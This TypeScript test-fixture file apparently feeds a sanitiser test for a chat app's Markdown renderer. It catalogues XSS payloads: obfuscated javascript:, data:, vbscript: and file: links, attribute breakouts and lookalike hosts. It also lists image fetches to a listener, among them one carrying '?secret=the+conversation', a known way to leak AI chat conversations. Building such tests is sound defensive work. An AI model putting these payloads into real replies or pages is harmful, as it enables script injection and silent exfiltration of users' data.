import { attack, familyOf, type Payload, type Trap } from './payload';

const encoded = Buffer.from('<script>window.pwned=1</script>').toString('base64');

/** One address for each scheme that runs, reads, starts or reaches something. */
const addresses = (trap: Trap): Readonly<Record<string, string>> => ({
  javascript: `javascript:${attack}`,
  'data html': `data:text/html;base64,${encoded}`,
  'data svg': 'data:image/svg+xml,<svg/onload=window.pwned=1>',
  vbscript: 'vbscript:msgbox(1)',
  blob: 'blob:app://parley/6f1c0c5e-0000-4000-8000-000000000000',
  filesystem: 'filesystem:app://parley/temporary/x.html',
  file: 'file:///etc/passwd',
  'file of a server': `file://${trap}/share/x`,
  'view-source': 'view-source:file:///etc/passwd',
  smb: `smb://${trap}/share`,
  parley: 'parley:settings/providers',
  app: 'app://parley/index.html',
});

/** Every way in which Markdown can carry an address. */
const carriers: Readonly<Record<string, (address: string) => string>> = {
  'as a link': (address) => `[click](${address})`,
  'in angle brackets': (address) => `[click](<${address}>)`,
  'as an autolink': (address) => `<${address}>`,
  'as a reference': (address) => `[click][ref]\n\n[ref]: ${address}`,
  'as a picture': (address) => `![picture](${address})`,
  'as a picture by reference': (address) => `![picture][ref]\n\n[ref]: <${address}>`,
  'as a picture in a link': (address) => `[![picture](${address})](${address})`,
};

function crossed(trap: Trap): readonly Payload[] {
  return Object.entries(addresses(trap)).flatMap(([scheme, address]) =>
    Object.entries(carriers).map(([carrier, carry]) => ({
      name: `address: ${scheme} ${carrier}`,
      text: carry(address),
    })),
  );
}

/** `javascript:` and others, written so that a check reads something else than a browser. */
const disguises: Readonly<Record<string, string>> = {
  'mixed case': `[x](JaVaScRiPt:${attack})`,
  'tab inside': `[x](java\tscript:${attack})`,
  'line break inside': `[x](java\nscript:${attack})`,
  'return inside': `[x](<java\rscript:${attack}>)`,
  'entity colon': `[x](javascript&colon;${attack})`,
  'decimal letters': `[x](&#106;&#97;&#118;&#97;script:${attack})`,
  'hexadecimal letters': `[x](&#x6A;&#x61;vascript:${attack})`,
  'long zeros': `[x](&#0000106avascript:${attack})`,
  'entity tab': `[x](java&Tab;script:${attack})`,
  'entity line break': `[x](java&NewLine;script:${attack})`,
  'numeric line break': `[x](java&#10;script:${attack})`,
  'control before': `[x](\u0001javascript:${attack})`,
  'space before': `[x](< javascript:${attack}>)`,
  'NUL inside': `[x](java\u0000script:${attack})`,
  'zero-width space inside': `[x](java\u200bscript:${attack})`,
  'zero-width joiner inside': `[x](java\u200dscript:${attack})`,
  'soft hyphen inside': `[x](java\u00adscript:${attack})`,
  'byte order mark before': `[x](\ufeffjavascript:${attack})`,
  'override before': `[x](\u202ejavascript:${attack})`,
  'no-break space before': `[x](\u00a0javascript:${attack})`,
  'percent letters': `[x](%6A%61vascript:${attack})`,
  'percent colon': `[x](javascript%3A${attack})`,
  'backslash escapes': `[x](java\\script\\:${attack})`,
  'long s': `[x](java\u017fcript:${attack})`,
  'full-width letters': `[x](\uff4aavascript:${attack})`,
  'full-width colon': `[x](javascript\uff1a${attack})`,
  'combining mark': `[x](j\u0301avascript:${attack})`,
  'comment that looks like a web address': `[x](javascript://good.example/%0a${attack})`,
  'two schemes': `[x](javascript:javascript:${attack})`,
  'web first': `[x](https:javascript:${attack})`,
  'no slashes': '[x](https:evil.example)',
  'one slash': '[x](https:/evil.example)',
  backslashes: '[x](https:\\\\evil.example)',
  'scheme-relative': '[x](//evil.example/x)',
  'relative path': '[x](/index.html?x)',
  dots: '[x](../../etc/passwd)',
  'fragment only': '[x](#root)',
  empty: '[x]()',
  'question only': '[x](?reload)',
  'share of a server': '[x](\\\\evil.example\\share)',
  'long path of a share': '[x](\\\\?\\UNC\\evil.example\\share)',
  'drive letter': '[x](C:\\Windows\\System32\\calc.exe)',
  'data in capitals': `[x](DATA:text/html;base64,${encoded})`,
  'data without a type': `[x](data:,${attack})`,
  jar: `[x](jar:https://evil.example/x.jar!/x.html)`,
  'feed of javascript': `[x](feed:javascript:${attack})`,
  'title breaks out': `[x](https://e.example/ "title\\" onmouseover=\\"${attack}")`,
  'address breaks out': `[x](<https://e.example/" onclick="${attack}>)`,
  'bare address breaks out': `https://evil.example/"onmouseover="${attack}`,
  'www breaks out': `www.evil.example/<script>${attack}</script>`,
  'mail breaks out': `<x@evil.example"onclick=${attack}>`,
  'mail that attaches': '[x](mailto:a@b.example?attach=/etc/passwd)',
  'mail with headers': '[x](mailto:a@b.example?bcc=all%0d%0aSubject:x)',
  'reference defined twice': `[x][r]\n\n[r]: https://good.example\n[r]: javascript:${attack}`,
  'reference before its use': `[r]: javascript:${attack}\n\n[x][r]`,
  'reference that closes late': `[x][r]\n\n[r]:\n  javascript:${attack}\n  "title"`,
  'reference named __proto__': '[x][__proto__]\n\n[__proto__]: https://evil.example',
  'reference named constructor': '[constructor] [toString][] [hasOwnProperty][valueOf]',
};

/** Addresses that are opened, but not where they seem to lead. */
const lookalikes: Readonly<Record<string, string>> = {
  'user name as host': '[good.example](https://good.example@evil.example/)',
  'user and key': '[good.example](https://good.example:443@evil.example/)',
  'letters of another alphabet': '[apple](https://\u0430pple.example/)',
  'override in the host': '[a](https://\u202emoc.doog)',
  'override in the text': '[https://good.example/\u202egnp.exe](https://evil.example)',
  'another host in the text': '[https://good.example](https://evil.example)',
  'full-width dot': '[a](https://evil\u3002example)',
  'number as host': '[a](http://2130706433/)',
  'octal host': '[a](http://0177.0.0.1/)',
  'zone in the host': '[a](http://[fe80::1%25eth0]/)',
  'invisible letter in the host': '[a](https://good\u200b.example)',
  'very long address': `[a](https://evil.example/${'a'.repeat(400)})`,
};

/** Nothing of these may reach the listener, however the reply is shown. */
const fetches = (trap: Trap): Readonly<Record<string, string>> => ({
  picture: `![x](http://${trap}/picture.png)`,
  'picture with a secret': `![x](http://${trap}/picture.png?secret=the+conversation)`,
  'picture with a title': `![x](http://${trap}/picture.png "a title")`,
  'picture by reference': `![x][img]\n\n[img]: http://${trap}/reference.png`,
  'picture by short reference': `![img]\n\n[img]: http://${trap}/short.png`,
  'picture in a link': `[![x](http://${trap}/a.png)](http://${trap}/b)`,
  'picture in a table': `| a |\n|---|\n| ![x](http://${trap}/table.png) |`,
  'picture in a heading': `## ![x](http://${trap}/heading.png)`,
  'picture in a list': `- ![x](http://${trap}/list.png)`,
  'picture in its own description': `![![x](http://${trap}/inner.png)](http://${trap}/outer.png)`,
  'picture with sizes': `![x](http://${trap}/sized.png =100x100)`,
  'picture with attributes': `![x](http://${trap}/attributes.png){onerror=${attack}}`,
  'picture by a socket': `![x](ws://${trap}/socket)`,
  'picture of a stun server': `![x](stun:${trap})`,
  'picture by ftp': `![x](ftp://${trap}/x.png)`,
  'bare address': `http://${trap}/bare`,
  autolink: `<http://${trap}/auto>`,
  'wiki picture': `![[http://${trap}/wiki.png]]`,
  'footnote picture': `[^1]\n\n[^1]: ![x](http://${trap}/note.png)`,
  'html picture in a link': `[<img src="http://${trap}/html.png">](https://good.example)`,
  'preview of a link': `[${trap}](http://${trap}/preview "preview")`,
  'video by the picture mark': `![x](http://${trap}/film.mp4)`,
});

export const linkPayloads = (trap: Trap): readonly Payload[] => [
  ...crossed(trap),
  ...familyOf('disguise', disguises),
  ...familyOf('lookalike', lookalikes),
  ...familyOf('fetch', fetches(trap)),
];
